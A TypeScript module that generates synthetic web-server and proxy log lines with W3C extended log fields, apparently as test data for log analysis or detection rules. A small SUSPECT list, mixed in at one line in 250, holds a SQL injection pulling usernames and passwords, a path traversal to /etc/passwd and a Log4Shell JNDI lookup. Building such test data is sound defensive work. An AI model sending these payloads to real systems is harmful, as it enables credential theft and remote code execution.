import { clock, fill, type Logged, pick, series } from './text.ts'

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  'okhttp/5.1.0',
  'kube-probe/1.33',
] as const
const PATHS = [
  '/',
  '/api/v2/orders/{d6}',
  '/api/v2/orders?status=open&page={n}',
  '/static/js/main.{h8}.js',
  '/static/img/{word}-{d4}.webp',
  '/login',
  '/search?q={word}+{word}&sort=date',
  '/healthz',
  '/wp-content/uploads/2026/{word}.pdf',
] as const
const SUSPECT = [
  '/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/download?file=../../../../etc/passwd',
  '/index.php?x=${jndi:ldap://{net}/a}',
] as const

/** Lines of a web server and of a forward proxy under the names of W3C's extended log format, about 0.6 kB; one in 250 is an attack. */
export const webRequests = (count: number, seed = 31): readonly Logged[] =>
  series(count, seed, (random, at) => {
    const uri = fill(at % 250 === 249 ? pick(random, SUSPECT) : pick(random, PATHS), random)
    const [stem = '', query = '-'] = uri.split('?', 2)
    const proxy = at % 2 === 1
    const host = fill(pick(random, ['shop.example.com', '{word}.example.net', 'cdn.example.org']), random)
    const shared = {
      date: clock(at).slice(0, 10),
      time: clock(at).slice(11, 19),
      'c-ip': fill(proxy ? '{ip}' : '{net}', random),
      'cs-username': proxy ? fill('{user}', random) : '-',
      'cs-method': pick(random, ['GET', 'GET', 'GET', 'POST', 'HEAD']),
      'cs-host': host,
      'cs-version': 'HTTP/1.1',
      'sc-status': pick(random, [200, 200, 200, 304, 302, 404]),
      'sc-bytes': Math.floor(random() * 90_000),
      'cs-bytes': Math.floor(random() * 2_000),
      'time-taken': Math.floor(random() * 900),
    }
    return proxy
      ? {
          logsource: { category: 'proxy' },
          record: {
            ...shared,
            'c-uri': `https://${host}${uri}`,
            'c-uri-extension': stem.includes('.') ? (stem.split('.').at(-1) ?? '') : '',
            'c-uri-query': query,
            'c-uri-stem': stem,
            'c-useragent': pick(random, AGENTS),
            'r-dns': host,
            dst_ip: fill('{net}', random),
          },
        }
      : {
          logsource: { category: 'webserver' },
          record: {
            ...shared,
            's-ip': fill('{ip}', random),
            's-port': 443,
            'cs-uri-stem': stem,
            'cs-uri-query': query,
            'cs-user-agent': pick(random, AGENTS),
            'cs-referer': `https://${host}/`,
          },
        }
  })
